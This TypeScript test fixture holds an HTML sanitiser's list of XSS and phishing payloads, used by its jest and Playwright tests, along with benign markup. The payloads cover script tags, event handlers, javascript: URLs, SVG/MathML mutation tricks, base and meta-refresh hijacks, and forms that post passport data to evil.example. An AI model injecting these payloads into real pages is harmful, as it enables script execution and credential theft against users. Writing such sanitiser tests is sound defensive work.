/**
 * HTML an attacker would put in API content (a document, a post, a comment) to run script, act on
 * the reader's behalf or phish: scripts, event handlers, script URLs, SVG and MathML namespace
 * confusion, mutation XSS, `srcdoc`, `base`, `meta refresh`, forms and CSS. Every payload that
 * could run calls `alert(n)`, so a browser test counts dialogs. Shared by the sanitiser's jest
 * tests and the Playwright tests of each page kind that renders API content.
 */
export const hostileHtml: readonly string[] = [
  // Script elements.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script type="module">alert(2)</script>',
  '<<script>alert(3);//<</script>',
  '<scr<script>ipt>alert(4)</scr</script>ipt>',
  // Event handlers.
  '<img src=x onerror=alert(5)>',
  '<img src="/x.png" onload="alert(6)">',
  '<body onload=alert(7)>',
  '<p onclick="alert(8)">Нажмите</p>',
  '<div onmouseover="alert(9)" style="position:fixed;inset:0">Наведите</div>',
  '<details open ontoggle=alert(10)>',
  '<video><source onerror="alert(11)"></video>',
  '<audio src=x onerror=alert(12)>',
  '<marquee onstart=alert(13)>бегущая строка</marquee>',
  '<input autofocus onfocus=alert(14)>',
  '<select autofocus onfocus=alert(15)></select>',
  '<textarea autofocus onfocus=alert(16)></textarea>',
  '<keygen autofocus onfocus=alert(17)>',
  '<a href="/docs/privacy-agreement" onmouseenter="alert(18)">ссылка</a>',
  '<img src=x:alert(19) onerror=eval(src)>',
  '<img src="x" OnErRoR="alert(20)">',
  '<img/src="x"/onerror=alert(21)>',
  // Script, data and obfuscated URLs.
  '<a href="javascript:alert(22)">ссылка</a>',
  '<a href="JaVaScRiPt:alert(23)">ссылка</a>',
  '<a href="java&#x09;script:alert(24)">ссылка</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(25)">ссылка</a>',
  '<a href=" javascript:alert(26)">ссылка</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyNyk8L3NjcmlwdD4=">ссылка</a>',
  '<a href="vbscript:msgbox(28)">ссылка</a>',
  '<a href="//evil.example/phish">ссылка</a>',
  '<a href="/.//evil.example">ссылка</a>',
  '<a href="http://user:pw@127.0.0.1:3000/">ссылка</a>',
  '<img src="javascript:alert(29)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMzApPjwvc3ZnPg==">',
  '<img src="http://evil.example/track.gif">',
  '<img srcset="x 1x, javascript:alert(31) 2x">',
  '<form><button formaction="javascript:alert(32)">Отправить</button></form>',
  // Frames, objects, srcdoc.
  '<iframe src="javascript:alert(33)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(34)</script>"></iframe>',
  '<iframe src="https://evil.example/login"></iframe>',
  '<object data="javascript:alert(35)"></object>',
  '<embed src="javascript:alert(36)">',
  '<frameset><frame src="javascript:alert(37)"></frameset>',
  '<portal src="https://evil.example/"></portal>',
  // Document-level hijacks.
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(38)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="import" href="https://evil.example/x.html">',
  // SVG and MathML namespace confusion.
  '<svg onload=alert(39)>',
  '<svg><script>alert(40)</script></svg>',
  '<svg><a xlink:href="javascript:alert(41)"><text x="20" y="20">ссылка</text></a></svg>',
  '<svg><animate onbegin=alert(42) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x><image href=1 onerror=alert(43)></svg>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(44)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="javascript:alert(45)">x</mi></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(46)>">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(47)>"></style></mtext></svg></mglyph></h1></mtext></math>',
  // Mutation XSS.
  '<noscript><p title="</noscript><img src=x onerror=alert(48)>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(49)>"></xmp>',
  '<noembed><img title="</noembed><img src onerror=alert(50)>"></noembed>',
  '<template><script>alert(51)</script></template>',
  '<style><style/><img src=x onerror=alert(52)>',
  '<title><img src=x onerror=alert(53)></title>',
  '<textarea><img src=x onerror=alert(54)></textarea>',
  '<!--><img src=x onerror=alert(55)>-->',
  '<![CDATA[><img src=x onerror=alert(56)>]]>',
  // Forms that phish.
  '<form action="https://evil.example/steal" method="post"><p>Подтвердите паспорт</p><input name="passport"><button>Отправить</button></form>',
  '<input type="password" name="password" placeholder="Пароль от личного кабинета">',
  '<button onclick="alert(57)">Получить деньги</button>',
  '<select name="card"><option>Карта</option></select>',
  '<isindex action="https://evil.example/" prompt="Введите код из СМС">',
  // CSS that acts or hides.
  '<p style="background:url(javascript:alert(58))">фон</p>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Сайт на обслуживании</div>',
  '<style>body{display:none}</style>',
  '<p style="behavior:url(x.htc)">старый IE</p>',
  '<div style="width: expression(alert(59))">x</div>',
  // Attributes that clobber or reach outside.
  '<img name="cookie" src="/x.png">',
  '<form id="location"></form>',
  '<a id="defaultView" href="https://evil.example">x</a>',
  '<div data-preload-route="https://evil.example">x</div>',
  '<a href="https://evil.example" target="_top">ссылка</a>',
  '<a href="https://example.org/" target="_self" rel="opener">партнёр</a>',
  '<img src="/x.png" width="5000" height="5000" alt="огромная картинка">',
  '<a href="/docs/privacy-agreement" ping="https://evil.example/ping">ссылка</a>',
];

/** Markup every document may carry; the sanitiser keeps it as it is (tag by tag). */
export const benignHtml = [
  '<h2>Цели обработки</h2>',
  '<p>Текст <strong>важный</strong>, <em>курсив</em>, <code>код</code>.</p>',
  '<ul><li>один</li><li>два</li></ul>',
  '<ol start="3"><li>три</li></ol>',
  '<table><thead><tr><th scope="col">Срок</th></tr></thead><tbody><tr><td colspan="2">7 дней</td></tr></tbody></table>',
  '<blockquote><p>Цитата</p></blockquote>',
  '<a href="/docs/mailing-agreement">Согласие на рассылку</a>',
  '<a href="https://example.org/partner">Партнёр</a>',
  '<a href="mailto:help@example.ru">Написать</a>',
  '<a href="tel:+78001234567">Позвонить</a>',
  '<img src="https://example.org/scheme.png" alt="Схема">',
  '<img src="/images/scheme.png" alt="Схема">',
].join('');

/**
 * Ends whatever a payload left open (raw-text elements swallow everything up to their own end tag;
 * a comment, up to `-->`), so the next payload is parsed on its own. End tags with nothing to close
 * are ignored by the parser.
 */
const closeEverything =
  '--></script></style></textarea></title></xmp></noscript></noembed></noframes></iframe></template></select></option></audio></video></details></marquee></svg></math></object></form></a></p></div>';

/** Text after payload `index` in `hostileDocument()`: seeing all of them proves every payload was parsed. */
export const afterPayloadMarker = (index: number) => `после фрагмента ${index + 1}`;

/** All payloads in one document, each closed off and followed by its marker paragraph. */
export function hostileDocument(): string {
  return hostileHtml.map((payload, index) => `<div>${payload}${closeEverything}<p>${afterPayloadMarker(index)}</p></div>`).join('\n');
}
